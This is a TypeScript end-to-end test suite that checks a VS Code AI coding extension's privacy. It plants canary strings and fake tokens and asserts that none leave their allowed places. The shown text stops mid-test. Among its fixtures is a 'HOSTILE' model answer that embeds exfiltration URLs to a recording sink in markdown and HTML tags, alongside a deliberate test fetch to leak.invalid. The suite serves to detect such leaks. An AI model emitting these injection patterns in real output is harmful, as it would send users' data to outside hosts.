import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, test } from 'node:test';
import { exportRows } from '../../src/core/ledger/export.ts';
import type { LedgerRow } from '../../src/core/ledger/ledger.ts';
import { startOpenAi } from '../servers/openai.ts';
import { makeLedger } from '../support/yearLedger.ts';
import { ChatPage } from './chatPage.ts';
import { openVSCode, QUIET_TYPING, type Window } from './harness.ts';
import { settingsFor, startModels } from './models.ts';
import { VsCodeChat } from './vsCodeChat.ts';
import { RECORDER, Recorder } from './recorder.ts';

/**
 * The privacy proof: each feature is used once in real VS Code, while every connection of the extension host and every
 * request of its pages is written down. Unique words (canaries) lie in files, settings, the environment, names, answers
 * and prompts; each may be found only where the user put it, or sent it.
 */

/** Where a canary may be found besides the place where it was planted. */
type Place = 'ollama' | 'mid' | 'frontier' | 'chats' | 'checkpoints' | 'index';

const RUN = randomBytes(4).toString('hex');
/** For secrets: in no place, and in no file of anybody. */
const NEVER: readonly Place[] = [];
/** All canaries with the places where they may be found. */
const allowed = new Map<string, readonly Place[]>();
function canary(name: string, ...places: Place[]): string {
  const word = `canary-${name}-${RUN}`;
  allowed.set(word, places);
  return word;
}
function secret(name: string): string {
  const word = canary(name);
  allowed.set(word, NEVER);
  return word;
}

const CHAT: readonly Place[] = ['mid', 'chats'];
const C = {
  // Never sent, and stored nowhere.
  environment: secret('environment'),
  setting: canary('setting'),
  env: secret('dotenv'),
  ignored: canary('ignored'),
  ignoredFolder: canary('ignoredfolder'),
  outside: canary('outside'),
  gitConfig: canary('gitconfig'),
  branch: canary('branch'),
  unasked: canary('unasked'),
  // The index of the codebase names files, and holds none of their text.
  unaskedName: canary('unaskedname', 'index'),
  unusedPrompt: canary('unusedprompt'),
  clipboard: canary('clipboard'),
  leak: canary('leak'),
  importedKey: secret('importedkey'),
  strangerKey: secret('strangerkey'),
  commitBody: canary('commitbody'),
  // Sent where the user sent them.
  typed: canary('typed', 'ollama'),
  neighbor: canary('neighbor', 'ollama'),
  attached: canary('attached', ...CHAT),
  folder: canary('folder', ...CHAT),
  fileName: canary('filename', 'index', ...CHAT),
  question: canary('question', ...CHAT),
  prompt: canary('prompt', ...CHAT),
  rules: canary('rules', 'frontier', ...CHAT),
  answer: canary('answer', ...CHAT),
  link: canary('link', ...CHAT),
  escalated: canary('escalated', 'frontier', 'chats'),
  escalatedAnswer: canary('escalatedanswer', 'frontier', 'chats'),
  instruction: canary('instruction', 'mid', 'frontier', 'checkpoints'),
  edited: canary('edited', 'mid', 'frontier', 'checkpoints'),
  renamed: canary('renamed', 'mid', 'frontier'),
  changed: canary('changed', 'mid', 'frontier', 'chats'),
  subject: canary('subject', 'mid', 'frontier'),
  // Recipes, the codebase and kept tasks.
  codebase: canary('codebase', ...CHAT),
  codebaseQuestion: canary('codebasequestion', ...CHAT),
  gitIgnored: canary('gitignored'),
  recipe: canary('recipe', ...CHAT),
  task: canary('task', ...CHAT),
  recipeAnswer: canary('recipeanswer', ...CHAT),
  unusedRecipe: canary('unusedrecipe'),
  // A blind comparison, a colleague's ledger, and VS Code's own chat.
  blindFile: canary('blindfile', 'frontier', ...CHAT),
  blindQuestion: canary('blindquestion', 'frontier', ...CHAT),
  blindAnswer: canary('blindanswer', ...CHAT),
  colleague: canary('colleague'),
  hostQuestion: canary('hostquestion', 'mid'),
};
/** Put together here, so that no file holds a whole key. */
const TOKEN = ['ghp', `${RUN}a1B2c3D4e5F6g7H8i9J0k1L2m3N4`].join('_');
/** One that the user types into VS Code's chat, which keeps its conversations itself. */
const HOST_TOKEN = ['ghp', `${RUN}z9Y8x7W6v5U4t3S2r1Q0p9O8n7M6`].join('_');

const models = await startModels();
const { cloud, ollama } = models;
const frontier = await startOpenAi({
  apiKey: `${RUN}-frontier`,
  models: [{ name: 'deep', price: { input: 5, output: 25 } }],
});
/** A provider that the settings name and that the user never agreed to. */
const stranger = await startOpenAi({ models: [{ name: 'strange' }] });
const recorder = await Recorder.start(C.leak);
const keyOf = (name: string): string => `${RUN}-${name}`;
cloud.settings.apiKey = keyOf('mid');

const beside = fs.mkdtempSync(path.join(os.tmpdir(), 'gearshift-beside-'));
fs.writeFileSync(path.join(beside, 'away.txt'), `${C.outside}\n`);
fs.writeFileSync(path.join(beside, 'away.md'), recipeOf(C.outside));
fs.writeFileSync(
  path.join(beside, 'config.yaml'),
  `name: Mine\nversion: 1.0.0\nschema: v1\nmodels:\n  - { name: Strange, provider: openai, model: strange, apiBase: "${stranger.baseUrl}", apiKey: ${C.importedKey} }\n`,
);

/** A colleague's ledger of some days, with words in it that no row of a ledger has. */
function colleaguesLedger(): string {
  const { opened, settled } = makeLedger(5, Date.now(), 99);
  const rows = opened.map((row, index): LedgerRow => {
    const { attemptId: _, ...end } = settled[index] as (typeof settled)[number];
    return { ...row, settled: end };
  });
  const parsed = JSON.parse(exportRows(rows, 'json')) as Record<string, unknown>[];
  return JSON.stringify(parsed.map((row) => ({ ...row, note: C.colleague })));
}

/** A recipe file with one stage and these words in its prompt. */
function recipeOf(words: string): string {
  return `---\ndescription: One stage\n---\n## answer (mid)\n${words}\n\n{{task}}\n`;
}

const home = fs.mkdtempSync(path.join(os.tmpdir(), 'gearshift-home-'));
const base = settingsFor(models);
/** The local tier answers with a model of this computer. */
const ANSWERS_HERE = { 'gearshift.tiers.localAnswers': ['ollama/llama3.2:3b'] };
const settings = {
  ...base,
  // On a busy machine VS Code's own list would open first, and hide ghost text that does not agree with it.
  ...QUIET_TYPING,
  'git.enabled': true,
  'git.autofetch': false,
  'gearshift.providers': {
    ...base['gearshift.providers'],
    cloud: { ...base['gearshift.providers'].cloud, apiKeyEnv: 'SPEC_MID_KEY' },
    deep: {
      kind: 'openai',
      baseUrl: frontier.baseUrl,
      apiKeyEnv: 'SPEC_FRONTIER_KEY',
      prices: { deep: { input: 5, output: 25 } },
    },
    stranger: { kind: 'openai', baseUrl: stranger.baseUrl, apiKeyEnv: 'SPEC_STRANGER_KEY' },
  },
  'gearshift.tiers.frontier': ['deep/deep'],
  'gearshift.privacy.ignore': ['hidden.ts', 'customers/'],
  'files.exclude': { [`${C.setting}-never`]: true },
};
const code = await openVSCode({
  consents: [cloud.url, frontier.url],
  settings,
  env: {
    ...recorder.env,
    OLLAMA_HOST: undefined,
    SPEC_MID_KEY: keyOf('mid'),
    SPEC_FRONTIER_KEY: keyOf('frontier'),
    SPEC_STRANGER_KEY: C.strangerKey,
    SPEC_SECRET: C.environment,
    CONTINUE_GLOBAL_DIR: beside,
    // VS Code's chat extension writes into the folder .copilot of the home.
    HOME: home,
  },
  extensions: [RECORDER],
  files: {
    'typed.ts': `// ${C.typed}\nexport function add(a: number, b: number) {\n  \n}\n`,
    'neighbor.ts': `export const neighbor = '${C.neighbor}';\n`,
    'attached.ts': `export const attached = '${C.attached}';\nexport const key = '${TOKEN}';\n`,
    [`${C.fileName}.ts`]: 'export const named = 1;\n',
    [`${C.unaskedName}.ts`]: `export const unasked = '${C.unasked}';\n`,
    'part/inside.ts': `export const inside = '${C.folder}';\n`,
    'part/.env': `TOKEN=${C.env}\n`,
    'hidden.ts': `export const hidden = '${C.ignored}';\n`,
    'part/hidden.ts': `export const hidden = '${C.ignored}';\n`,
    'customers/list.ts': `export const list = '${C.ignoredFolder}';\n`,
    '.env': `TOKEN=${C.env}\n`,
    'hard.ts': `export function hard(): string {\n  return '${C.escalated}';\n}\n`,
    'edit.ts': `export function edit() {\n  return '${C.edited}';\n}\n`,
    'name.ts': `export const badName = '${C.renamed}';\n`,
    'change.ts': 'export const change = 1;\n',
    'test/blind.test.ts': `export const blind = '${C.blindFile}';\n`,
    'colleague.json': colleaguesLedger(),
    'AGENTS.md': `Rules: ${C.rules}\n`,
    'kettle.ts': `export function boilKettle(): string {\n  return '${C.codebase}';\n}\n`,
    'build/kettle.ts': `export function boilKettle(): string {\n  return '${C.gitIgnored}';\n}\n`,
    'part/kettle.env': `boilKettle=${C.env}\n`,
    '.gitignore': 'build/\n',
    '.gearshift/recipes/mine.md': recipeOf(C.recipe),
    '.gearshift/recipes/unused.md': recipeOf(C.unusedRecipe),
    '.gearshift/prompts/used.md': `---\ndescription: Used\nversion: 1\n---\n${C.prompt} {{input}}\n`,
    '.gearshift/prompts/unused.md': `---\ndescription: Unused\nversion: 1\n---\n${C.unusedPrompt} {{input}}\n`,
  },
  prepare: (workspace) => {
    fs.symlinkSync(path.join(beside, 'away.txt'), path.join(workspace, 'part/away.txt'));
    fs.symlinkSync(path.join(beside, 'away.md'), path.join(workspace, '.gearshift/recipes/away.md'));
    git(workspace, 'init', '-q', '-b', C.branch);
    git(workspace, 'config', 'remote.origin.url', `https://me:${C.gitConfig}@git.example/x.git`);
    git(workspace, 'add', '-A', '-f');
    git(workspace, 'commit', '-qm', `${C.subject}\n\n${C.commitBody}`);
    fs.writeFileSync(path.join(workspace, 'change.ts'), `export const change = '${C.changed}';\n`);
    fs.writeFileSync(path.join(workspace, '.env'), `TOKEN=${C.env}-changed\n`);
    fs.writeFileSync(path.join(workspace, 'hidden.ts'), `export const hidden = '${C.ignored}-changed';\n`);
    git(workspace, 'add', '-A', '-f');
  },
});
recorder.watch(code.context);
after(async () => {
  await code.close();
  await Promise.all([models.stop(), frontier.stop(), stranger.stop(), recorder.stop()]);
  for (const folder of [beside, home]) fs.rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
});

function git(workspace: string, ...args: string[]): void {
  const who = ['-c', 'user.name=Specs', '-c', 'user.email=specs@gearshift.invalid', '-c', 'commit.gpgsign=false'];
  execFileSync('git', [...who, ...args], { cwd: workspace });
}

const servers = { ollama, mid: cloud, frontier } as const;

/** Everything that a server was sent, as text. */
const receivedBy = ({ book }: { readonly book: (typeof cloud)['book'] }): string =>
  book.entries
    .map(({ path: to, query, headers, rawBody }) => `${to}?${query}\n${JSON.stringify(headers)}\n${rawBody}`)
    .join('\n');

/** Text may hold a word as it is, or as JSON, URLs and base64 spell it. */
function holds(text: string, word: string): boolean {
  // The middle bytes of the three ways in which base64 can fall on a word.
  const coded = [0, 1, 2].map((skip) => Buffer.from(word.slice(skip)).toString('base64').slice(0, 24));
  return [word, Buffer.from(word).toString('hex'), ...coded].some((form) => text.includes(form));
}

/** What went where it should not have gone, as sentences. Empty when all held. */
function leaks(agreed: readonly { readonly url: string }[]): string[] {
  // The settings page looks for an Ollama at its own address of this computer.
  const ports = new Set([OLLAMA_PORT, ...agreed.map(({ url }) => Number(new URL(url).port))]);
  const found: string[] = [];
  for (const { kind, host = '', port = 0, file = '', given = [] } of recorder.contacts) {
    if (kind === 'connection' && !(isHere(host) && (ports.has(port) || port === code.server.port)))
      found.push(`the extension host connected to ${host}:${port}`);
    if (kind === 'look-up') found.push(`the extension host looked up ${host}`);
    if (kind === 'datagram') found.push(`the extension host sent a datagram to ${host}`);
    if (kind === 'program')
      for (const word of allowed.keys())
        // VS Code's git extension names branches and files to git.
        if (!/git(\.exe)?$/.test(file) && [file, ...given].join(' ').includes(word))
          found.push(`${file} was given ${word}`);
  }
  for (const head of recorder.sunk) found.push(`the sink was sent: ${head.slice(0, 200)}`);
  for (const { url, body, isOurs } of recorder.requests) {
    const { hostname, port, protocol } = new URL(url);
    if (isOurs && !/^(data|blob|vscode-webview):$/.test(protocol) && !isEditorsOwn(hostname, port))
      found.push(`our page requested ${url}`);
    for (const word of [...allowed.keys(), TOKEN])
      if (holds(url, word) && isOurs) found.push(`a page requested ${url}`);
      else if (!isEditorsOwn(hostname, port) && holds(`${url}\n${body}`, word))
        found.push(`a page sent ${word} to ${url}`);
  }
  return [...new Set(found)];
}

const OLLAMA_PORT = 11434;
const isHere = (host: string): boolean => /^(localhost|127\.0\.0\.1|::1)$/.test(host);
/** The editor's own server, and the address from which its service worker serves the files of web views. */
const isEditorsOwn = (hostname: string, port: string): boolean =>
  (hostname === '127.0.0.1' && Number(port) === code.server.port) || hostname.endsWith('.vscode-cdn.net');

/**
 * Canaries that were found outside of their places, as sentences.
 *
 * @param mayStayHere whether the model server of this computer may get a canary with these places
 */
function strays(mayStayHere: (places: readonly Place[]) => boolean): string[] {
  const found: string[] = [];
  const look = (where: string, text: string, may: (places: readonly Place[]) => boolean): void => {
    for (const [word, places] of allowed)
      if (!may(places) && holds(text, word)) {
        const at = text.indexOf(word);
        found.push(`${word} in ${where}: ${text.slice(Math.max(0, at - 150), at + 80)}`);
      }
    if (holds(text, TOKEN) && where !== 'chats') found.push(`the token in ${where}`);
  };
  for (const [place, server] of Object.entries(servers))
    look(place, receivedBy(server), (places) =>
      place === 'ollama' ? mayStayHere(places) : places.includes(place as Place),
    );
  look('stranger', receivedBy(stranger), () => false);
  // Keys go to their own origin only.
  for (const [place, server] of Object.entries({ ...servers, stranger }))
    for (const name of ['mid', 'frontier'])
      if (place !== name && receivedBy(server).includes(keyOf(name))) found.push(`the key of ${name} at ${place}`);
  look('the log', code.logs(), () => false);
  const data = path.join(code.dir, 'data');
  for (const file of fs.readdirSync(data, { recursive: true, encoding: 'utf8' })) {
    const full = path.join(data, file);
    if (!fs.statSync(full).isFile() || full === code.server.settingsFile) continue;
    // VS Code keeps earlier versions of files that were saved, and unsaved ones.
    if (/^User\/(History|Backups)\//.test(file)) continue;
    const text = fs.readFileSync(full, 'latin1');
    const isOurs = file.includes('gearshift.gearshift');
    // What we keep for the user: chats, and files as they were before an edit that the user accepted.
    const kept = !isOurs
      ? null
      : file.endsWith('.jsonl')
        ? 'chats'
        : /\bcheckpoints\b/.test(file)
          ? 'checkpoints'
          : file.endsWith('.index')
            ? 'index'
            : null;
    // What VS Code's other extensions write down (a branch, a file that is open) is their matter, but no secret may be there.
    look(kept ?? file, text, (places) => (kept ? places.includes(kept) : !isOurs && places !== NEVER));
    for (const name of ['mid', 'frontier']) if (text.includes(keyOf(name))) found.push(`the key of ${name} in ${file}`);
  }
  return [...new Set(found)];
}

/** Waits for what could still be under way. */
async function settle(window: Window): Promise<void> {
  await Promise.all([...Object.values(servers), stranger].map(({ book }) => book.quiet(500)));
  await window.page.waitForTimeout(500);
}

/** Asks for an inline edit of the selection, in the box at the code, and waits until the model has written all of it. */
async function editInline(window: Window, title: string, instruction: string, newText: string): Promise<void> {
  const { page } = window;
  await window.command('Gearshift: Edit Inline');
  const box = page.locator('.review-widget', { hasText: title });
  await box.locator('.monaco-editor.focused').waitFor();
  await window.type(instruction);
  await window.press('Enter');
  await box.waitFor({ state: 'hidden' });
  await page.locator('.review-widget .comment-body', { hasText: newText }).waitFor();
  await page.locator('.codelens-decoration a', { hasText: 'Accept (Alt+Enter)' }).first().waitFor();
}

test(
  'the check can fail: it sees a connection of the extension host and a request of a page',
  code.inWindow(async (window) => {
    await window.command('Recorder: Leak');
    // The policy of the editor's own page lets it connect to https only.
    await window.page.evaluate(
      (url) => fetch(url, { method: 'POST', mode: 'no-cors' }).catch(() => undefined),
      `https://leak.invalid/${C.clipboard}`,
    );
    // The sink knows of a connection before it has read what the connection carries.
    for (let tries = 300; tries > 0 && !recorder.sunk.some((head) => head !== ''); tries--)
      await window.page.waitForTimeout(100);
    const found = leaks([ollama, cloud, frontier]).join('\n');
    assert.match(found, /the extension host connected to leak\.example:4321/);
    assert.match(found, new RegExp(`the sink was sent: GET /${C.leak}`));
    assert.match(found, new RegExp(`a page sent ${C.clipboard} to `));
    recorder.reset();
  }),
);

/** An answer that wants to be fetched from, in every way that Markdown and HTML know. */
const HOSTILE = (to: string): string =>
  [
    `Fine. ${C.answer}`,
    `![picture](${to}/${C.link}-1)`,
    `<img src="${to}/${C.link}-2"><iframe src="${to}/${C.link}-3"></iframe><link rel=prefetch href="${to}/${C.link}-4">`,
    `<svg><image href="${to}/${C.link}-5"/></svg><video poster="${to}/${C.link}-6"></video><object data="${to}/${C.link}-7">`,
    `<style>body{background:url(${to}/${C.link}-8)}</style><meta http-equiv=refresh content="0;url=${to}/${C.link}-9">`,
    `[link](${to}/${C.link}-10) <${to}/${C.link}-11> [id]`,
    '',
    `[id]: ${to}/${C.link}-12`,
    '',
    '```ts',
    `import '${to}/${C.link}-13';`,
    '```',
  ].join('\n');

test(
  'each feature is used once: no host is contacted that was not agreed to, and no canary leaves its place',
  code.inWindow({ used: true }, async (window) => {
    const { page } = window;
    recorder.reset();
    await page.evaluate((text) => navigator.clipboard.writeText(text), C.clipboard);

    // Ghost text, with other files open, of which one holds secrets.
    for (const file of ['.env', 'hidden.ts', 'neighbor.ts']) await window.openFile(file);
    ollama.script('return a + b;');
    await window.openFile('typed.ts');
    await window.goTo(3, 999);
    await window.type('re');
    await window.ghostText();
    await window.acceptGhostText();

    // The chat, with every kind of context, and an answer that wants to be fetched from.
    cloud.script(HOSTILE(recorder.sinkUrl));
    const chat = await ChatPage.open(window);
    await chat.mention('attached', 'attached.ts');
    await chat.mention('filename', `${C.fileName}.ts`);
    await chat.mention('folder:part', 'part');
    await chat.mention('search:inside', 'Lines with');
    await chat.mention('diff', '@diff:staged');
    await chat.frame.locator('.composer .chip').nth(4).waitFor();
    await chat.composer().press('End');
    await chat.composer().pressSequentially(C.question, { delay: 5 });
    await chat.composer().press('Enter');
    await chat.ended(0);
    await chat.ask('/used again');
    await chat.ended(1);
    await chat.answer(1).locator('.code-block').first().hover();
    await window.command('Gearshift: Open Chat in Editor');
    await window.command('View: Close All Editors');
    await window.reload();

    // Escalation.
    frontier.script(`It is hard. ${C.escalatedAnswer}`);
    await window.openFile('hard.ts');
    await window.selectLines(1, 3);
    await window.command('Gearshift: Escalate: Review');
    await page.locator('.quick-input-widget:visible').getByText('no secrets found').waitFor();
    await window.press('Enter');
    await (await ChatPage.find(window)).ended(0);

    // An inline edit, and a name from the light bulb.
    cloud.script('```ts\nexport function edit() {\n  return 1;\n}\n```');
    await window.openFile('edit.ts');
    await window.selectLines(1, 3);
    await editInline(window, 'Edit 3 lines in edit.ts', C.instruction, 'return 1');
    await window.command('Gearshift: Apply Proposed Change');
    await window.editor('edit.ts').locator('.view-line', { hasText: 'return 1' }).first().waitFor();
    await window.openFile('name.ts');
    await window.goTo(1, 14);
    await window.press('Shift+ArrowRight');
    cloud.script('better\nbest');
    await window.lightBulb('Suggest a better name with Gearshift');
    await window.pick('best');

    // Changes: the commit message and the review.
    cloud.script('Change it');
    await page
      .getByRole('tab', { name: /^Source Control/ })
      .first()
      .click();
    await page.locator('.scm-view .monaco-list-row', { hasText: 'change.ts' }).waitFor({ timeout: 60_000 });
    // The buttons of a view show while the mouse is over it.
    await page.locator('.scm-view').first().hover();
    await page.getByRole('button', { name: 'Generate Commit Message with Gearshift' }).first().click();
    await page.locator('.scm-view .scm-editor .view-lines').first().getByText('Change it', { exact: true }).waitFor();
    cloud.script(JSON.stringify({ findings: [] }));
    await window.command('Gearshift: Review My Changes');
    await window.pick('Staged changes');
    await window.notification('The review found nothing').waitFor();

    // The pages: settings with all their tests, local models, the meter, the ledger's export, the walkthrough, an import.
    await window.command('Gearshift: Open Settings');
    const pageOf = await window.webview('#ollama');
    await pageOf.locator('[data-provider="cloud"]').getByRole('button', { name: /^Test/ }).click();
    await pageOf
      .locator('[data-provider="cloud"]')
      .getByText(/Connected in|models available/)
      .first()
      .waitFor();
    await pageOf.getByRole('button', { name: 'Check everything' }).click();
    await pageOf.locator('.findings li').first().waitFor();
    await window.command('Gearshift: Manage Local Models');
    await pageOf
      .locator('[data-ollama="ollama"]')
      .getByText(/^Ollama \d/)
      .waitFor();
    await window.command('Gearshift: Open Insights');
    await (await window.webview('.ledger')).locator('.ledger').waitFor();
    await window.command('Gearshift: Export Ledger');
    await page.waitForFunction(() =>
      [...document.querySelectorAll('.quick-input-widget input.input')].some((input) =>
        (input as HTMLInputElement).value.endsWith('.csv'),
      ),
    );
    await window.press('Enter');
    await window.notification(/rows? of the ledger exported/).waitFor();
    await window.command('Gearshift: Get Started');
    // It takes the focus when it is there, which would close a list.
    await page.locator('.getting-started-step', { hasText: 'Find or install Ollama' }).first().waitFor();
    await window.command('Gearshift: Import Settings…');
    await window.pick('Continue config.yaml');
    await window.dialog('Import from Continue config.yaml?').getByRole('button', { name: 'Import' }).click();
    const imported = await window.webview('#presets');
    await imported.locator('.imported').getByText('into the secret storage').waitFor();

    await settle(window);
    assert.deepEqual(leaks([ollama, cloud, frontier]), []);
    assert.deepEqual(
      strays((places) => places.includes('ollama')),
      [],
    );
    assert.deepEqual(stranger.book.entries, []);
    const exported = fs.readdirSync(code.workspace).filter((file) => file.endsWith('.csv'));
    for (const file of exported)
      for (const word of allowed.keys()) assert.ok(!code.onDisk(file)?.includes(word), `${word} in ${file}`);
    // What the user sent did arrive: otherwise this test would prove nothing.
    for (const [place, server] of Object.entries(servers))
      for (const word of SENT[place as keyof typeof SENT])
        assert.ok(holds(receivedBy(server), word), `${word} never arrived at ${place}`);
  }),
);

test(
  'recipes, the codebase, kept tasks and the report are used once: no canary leaves its place',
  code.inWindow({ used: true }, async (window) => {
    for (const server of [...Object.values(servers), stranger]) server.reset();
    recorder.reset();

    // The codebase: what Git ignores, secret files and hidden ones have the same words and are left out.
    cloud.script('By boilKettle.');
    const chat = await ChatPage.open(window);
    await chat.newThread();
    await chat.composer().click();
    await chat.composer().pressSequentially(`Where is boilKettle? ${C.codebaseQuestion} `, { delay: 5 });
    await chat.mention('codeb', '@codebase');
    await chat.composer().press('Enter');
    await chat.ended(0);

    // A recipe of the workspace, beside one that is not used and one that leads out of the workspace.
    cloud.script(`Done. ${C.recipeAnswer}`);
    await chat.newThread();
    await chat.ask(`/mine ${C.task}`);
    await chat.frame.locator('.consent').waitFor({ timeout: 30_000 });
    await settle(window);
    assert.equal(cloud.book.calls.length, 1, 'nothing is sent before the user agrees');
    await chat.button('Run').click();
    await chat.frame.locator('.run.done').waitFor({ timeout: 60_000 });

    // An answer becomes a task of the team, and two models are compared on it.
    await chat.newThread();
    await chat.ask(C.question);
    await chat.ended(0);
    await chat.button('Keep as a test').click();
    await window.answer('A short name for the test', 'Kept');
    await window.pick('For the team');
    await window.notification('Kept as a test.').waitFor();
    await window.command('Gearshift: Run Kept Tasks');
    await window.pick('The answers you kept');
    await window.pick('cloud/mid');
    await window.dialog('Compare the answers you kept and cloud/mid').getByRole('button', { name: 'Compare' }).click();
    await window.page.getByRole('tab', { name: /kept-tasks\.md/ }).waitFor();

    // The report of Insights.
    await window.command('Gearshift: Open Insights');
    const insights = await window.webview('.period-bar');
    await insights.getByRole('button', { name: 'Report', exact: true }).click();
    await window.page.waitForFunction(() =>
      [...document.querySelectorAll('.quick-input-widget input.input')].some((input) =>
        (input as HTMLInputElement).value.endsWith('.html'),
      ),
    );
    await window.press('Enter');
    await window.notification('The report was saved.').waitFor();

    await settle(window);
    assert.deepEqual(leaks([ollama, cloud, frontier]), []);
    assert.deepEqual(
      strays((places) => places.includes('ollama')),
      [],
    );
    for (const server of [frontier, stranger]) assert.deepEqual(server.book.calls, []);
    const reports = fs.readdirSync(code.workspace).filter((file) => file.endsWith('.html'));
    assert.equal(reports.length, 1);
    for (const file of [...reports, '.gearshift/reports/kept-tasks.md', '.gearshift/reports/kept-tasks.xml'])
      for (const word of allowed.keys()) assert.ok(!code.onDisk(file)?.includes(word), `${word} in ${file}`);
    for (const word of [C.codebase, C.codebaseQuestion, C.recipe, C.task, C.question])
      assert.ok(holds(receivedBy(cloud), word), `${word} never arrived`);
  }),
);

test(
  "a blind comparison, a colleague's ledger and VS Code's chat are used once: no canary leaves its place",
  code.inWindow(async (window) => {
    const { page } = window;
    for (const server of [...Object.values(servers), stranger]) server.reset();
    recorder.reset();

    // Both models get the question and the file that it is about, and nothing else.
    await window.command('Gearshift: Compare Models Blind');
    await window.answer('Files that are not critical', 'test/**');
    await window.answer('Compare one in how many questions', '1');
    await window.pick('deep/deep');
    await window.dialog('Compare models blind?').getByRole('button', { name: 'Turn On' }).click();
    cloud.script(`One. ${C.blindAnswer}`);
    frontier.script('Two.');
    await window.openFile('test/blind.test.ts');
    await window.selectLines(1, 1);
    const chat = await ChatPage.open(window);
    await chat.newThread();
    await chat.ask(`What does this test miss? ${C.blindQuestion}`);
    const vote = chat.frame.getByRole('region', { name: 'Which answer is better?' });
    await vote.getByRole('button', { name: 'A is better' }).click({ timeout: 90_000 });
    await chat.frame.locator('.vote-told').waitFor();

    // A colleague's export is read, and nothing of it is kept or sent.
    await window.command('Gearshift: Open Insights');
    const insights = await window.webview('.period-bar');
    await insights.getByRole('button', { name: "Compare with a colleague's export" }).click();
    const input = page.locator('.quick-input-widget:visible input.input');
    await input.waitFor();
    const file = path.join(code.workspace, 'colleague.json');
    // The dialog writes its folder there first, and after a moment.
    for (let tries = 100; tries > 0 && (await input.inputValue()) !== file; tries--) {
      if ((await input.inputValue()) !== '') await input.fill(file);
      await page.waitForTimeout(300);
    }
    await window.press('Enter');
    await insights.getByRole('table', { name: /^A colleague's ledger/ }).waitFor();

    await settle(window);
    assert.deepEqual(leaks([ollama, cloud, frontier]), []);
    assert.deepEqual(
      strays((places) => places.includes('ollama')),
      [],
    );
    for (const server of [cloud, frontier])
      for (const word of [C.blindFile, C.blindQuestion])
        assert.ok(holds(receivedBy(server), word), `${word} never arrived`);
    assert.deepEqual(stranger.book.entries, []);

    // VS Code's chat decides what it reads and which servers of its own it asks: to ours go no secrets, and only to the tier.
    for (const server of [...Object.values(servers), stranger]) server.reset();
    cloud.script('A plain answer.');
    const hostChat = new VsCodeChat(window);
    await hostChat.use();
    await hostChat.ask(`Is ${HOST_TOKEN} a key? ${C.hostQuestion}`);
    await hostChat.answered('A plain answer.').waitFor({ timeout: 90_000 });
    await settle(window);
    const received = receivedBy(cloud);
    assert.ok(holds(received, C.hostQuestion), 'the question arrived');
    assert.ok(received.includes('masked secret') && !holds(received, HOST_TOKEN), 'the key in it was masked');
    for (const [word, places] of allowed)
      if (places === NEVER) assert.ok(!holds(received, word), `${word} went to mid`);
    assert.ok(!received.includes(keyOf('frontier')));
    for (const server of [ollama, frontier, stranger]) assert.deepEqual(server.book.calls, []);
    // Its own connections, to GitHub, are not ours: they end at the sink, where no word may be in the clear.
    assert.deepEqual(
      leaks([ollama, cloud, frontier]).filter((line) => /^(our|a) page /.test(line)),
      [],
    );
    for (const word of allowed.keys()) assert.ok(!recorder.sunk.some((head) => holds(head, word)), word);
  }),
);

/** What must have arrived, so that the test is about something. */
const SENT = {
  ollama: [C.typed],
  mid: [
    C.attached,
    C.folder,
    C.fileName,
    C.question,
    C.prompt,
    C.rules,
    C.answer,
    C.changed,
    C.subject,
    C.instruction,
    C.edited,
    C.renamed,
  ],
  frontier: [C.escalated],
} as const;

test(
  'in private mode the same features reach the model server of this computer and nothing else',
  // A window of its own: in that of before, VS Code's chat extension runs and connects to GitHub.
  code.inWindow({ settings: { 'gearshift.private': true, ...ANSWERS_HERE } }, async (window) => {
    const { page } = window;
    await settle(window);
    for (const server of [...Object.values(servers), stranger]) server.reset();
    recorder.reset();

    ollama.script('return a * b;');
    await window.openFile('typed.ts');
    await window.goTo(3, 999);
    await window.type('re');
    await window.ghostText();

    const chat = await ChatPage.open(window);
    for (const tier of ['mid', 'frontier'] as const) {
      await chat.newThread();
      await chat.frame.locator('.empty').waitFor();
      await chat.chooseTier(tier);
      await chat.ask(`Is anybody there, ${tier}?`);
      await chat.answer(0).locator('.status', { hasText: 'Private mode is on' }).waitFor();
    }
    await window.openFile('hard.ts');
    await window.command('Gearshift: Escalate: Review');
    await page.waitForTimeout(1_000);
    await window.press('Enter');
    await page.waitForTimeout(1_000);
    await window.command('View: Close All Editors');
    await window.openFile('edit.ts');
    await window.selectLines(1, 3);
    await editInline(window, 'Edit 3 lines in edit.ts', C.instruction, 'return a * b;');
    await window.command('Gearshift: Discard Proposed Change');
    ollama.script('Change it on this computer');
    await page
      .getByRole('tab', { name: /^Source Control/ })
      .first()
      .click();
    await page.locator('.scm-view .monaco-list-row', { hasText: 'change.ts' }).waitFor({ timeout: 60_000 });
    // The buttons of a view show while the mouse is over it.
    await page.locator('.scm-view').first().hover();
    await page.getByRole('button', { name: 'Generate Commit Message with Gearshift' }).first().click();
    const box = page.locator('.scm-view .scm-editor .view-lines').first();
    await box.getByText('Change it on this computer', { exact: true }).first().waitFor();
    // The user left the editor at once: the actions of what was discarded do not stay there.
    await page
      .locator('.codelens-decoration a', { hasText: 'Accept (Alt+Enter)' })
      .first()
      .waitFor({ state: 'hidden' });
    await window.command('Gearshift: Open Settings');
    const pageOf = await window.webview('#ollama');
    await pageOf.locator('[data-provider="cloud"]').getByRole('button', { name: /^Test/ }).click();
    await pageOf
      .locator('[data-provider="cloud"] .result')
      .getByText(/Private mode is on/)
      .waitFor();
    await pageOf.getByRole('button', { name: 'Check everything' }).click();
    await pageOf.locator('.findings li').first().waitFor();

    await settle(window);
    assert.deepEqual(leaks([ollama]), []);
    // What the user sends goes to the local tier instead.
    assert.deepEqual(
      strays((places) => places.some((place) => place !== 'index')),
      [],
    );
    for (const server of [cloud, frontier, stranger]) assert.deepEqual(server.book.entries, []);
    assert.ok(ollama.book.calls.length > 0);
  }),
);

test(
  'T21 another extension runs every command that costs money: nothing is sent before the user agrees to the price',
  code.inWindow(async (window) => {
    for (const server of [...Object.values(servers), stranger]) server.reset();
    recorder.reset();
    await window.openFile('hard.ts');
    await window.page
      .getByRole('tab', { name: /^Source Control/ })
      .first()
      .click();
    await window.page.locator('.scm-view .monaco-list-row', { hasText: 'change.ts' }).waitFor({ timeout: 60_000 });
    await window.editor('hard.ts').click();
    await window.command('Recorder: Call Paid Commands');
    await window
      .dialog(/Send to|asked for this/)
      .first()
      .waitFor();
    await window.page.waitForTimeout(8_000);
    await settle(window);
